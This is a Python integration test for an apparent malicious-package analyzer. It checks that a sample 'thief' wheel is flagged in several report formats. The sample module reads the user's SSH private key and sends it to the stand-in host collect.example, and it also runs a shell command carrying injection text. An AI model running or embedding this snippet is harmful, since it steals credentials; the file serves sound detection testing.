"""A package that steals, in every format for other tools: from the run itself, from its report, and from many at once."""

from __future__ import annotations

import json
import os
import subprocess
import sys
from pathlib import Path

import pytest

from tests.integration.analysing import everywhere
from tests.packages import make_wheel
from tests.unit.render import cyclonedx_checks, markdown_checks, sarif_checks

CHECKOUT = Path(__file__).parents[2]
FORMATS = ("json", "sarif", "markdown", "cyclonedx", "package-analysis")
MODULE = """
import os, subprocess, urllib.request
key = open(os.path.expanduser("~/.ssh/id_ed25519"), "rb").read()
urllib.request.urlopen("http://collect.example:8081/a|b?x=[y](z)", data=key, timeout=5).read()
subprocess.run(["sh", "-c", "echo '[x](https://evil.example) @all <b>' | cat"])
"""


def fumehood(folder: Path, cache: Path, *words: str, exit_code: int = 0) -> None:
    environment = {**os.environ, "FUMEHOOD_CACHE": str(cache), "PYTHONPATH": str(CHECKOUT)}
    command = [sys.executable, "-m", "analyzer", *words, "--corpus", "none"]
    answer = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert answer.returncode == exit_code, answer.stderr


def outputs(name: str) -> list[str]:
    return [word for one in FORMATS for word in ("-o", f"{one}={name}.{one}")]


@everywhere
def test_what_a_thief_does_is_in_every_format(sandbox: str, tracer: str, tmp_path: Path, cache_directory: Path) -> None:
    make_wheel(tmp_path, "thief", modules={"thief.py": MODULE})
    place = ("--sandbox", sandbox, "--tracer", tracer, "-q")
    fumehood(tmp_path, cache_directory, "analyze", "./thief-1.0-py3-none-any.whl", *place, *outputs("run"))
    fumehood(tmp_path, cache_directory, "render", "run.json", *outputs("again"))
    for name in FORMATS:
        assert (tmp_path / f"again.{name}").read_bytes() == (tmp_path / f"run.{name}").read_bytes()
    run = sarif_checks.checked((tmp_path / "run.sarif").read_text())
    places = [
        (one["ruleId"], one["locations"][0]["physicalLocation"]["region"]["startLine"])
        for one in run["results"]
        if one["locations"][0]["physicalLocation"]["artifactLocation"]["uri"] == "thief.py"
    ]
    assert {("steal.ssh-key.read", 3), ("secret.left-sandbox", 4), ("execution.shell.run", 5)} <= set(places)
    markdown_checks.checked((tmp_path / "run.markdown").read_text())
    about = cyclonedx_checks.checked((tmp_path / "run.cyclonedx").read_text())["metadata"]["component"]
    assert "fumehood:behavior:steal.ssh-key.read" in {one["name"] for one in about["properties"]}
    imported = json.loads((tmp_path / "run.package-analysis").read_text())["Analysis"]["import"]
    assert any(one["Path"].endswith("/.ssh/id_ed25519") and one["Read"] for one in imported["Files"])
    assert {(one["Port"], *one["Hostnames"]) for one in imported["Sockets"]} >= {(8081, "collect.example")}
    assert any(one["Command"][:2] == ["sh", "-c"] for one in imported["Commands"])


@pytest.mark.embedded
def test_vet_tells_it_at_the_line_of_the_list(tmp_path: Path, cache_directory: Path) -> None:
    folder = tmp_path
    make_wheel(folder, "thief", modules={"thief.py": MODULE})
    (folder / "deps").mkdir()
    (folder / "deps" / "requirements.txt").write_text("# ours\n./thief-1.0-py3-none-any.whl\n")
    words = [word for one in FORMATS[:4] for word in ("-o", f"{one}=all.{one}")]
    fumehood(
        folder,
        cache_directory,
        "vet",
        "-r",
        "deps/requirements.txt",
        "--sandbox",
        "embedded",
        "-q",
        *words,
        exit_code=10,
    )
    run = sarif_checks.checked((folder / "all.sarif").read_text())
    found = [one["physicalLocation"] for result in run["results"] for one in result["locations"]]
    assert {(one["artifactLocation"]["uri"], one["region"]["startLine"]) for one in found} == {
        ("deps/requirements.txt", 2)
    }
    rows = markdown_checks.rows(markdown_checks.checked((folder / "all.markdown").read_text()))
    assert rows[1][:4] == ["REJECT", "thief 1.0", "requirements.txt, line 2", "complete"]
    cyclonedx_checks.checked((folder / "all.cyclonedx").read_text())
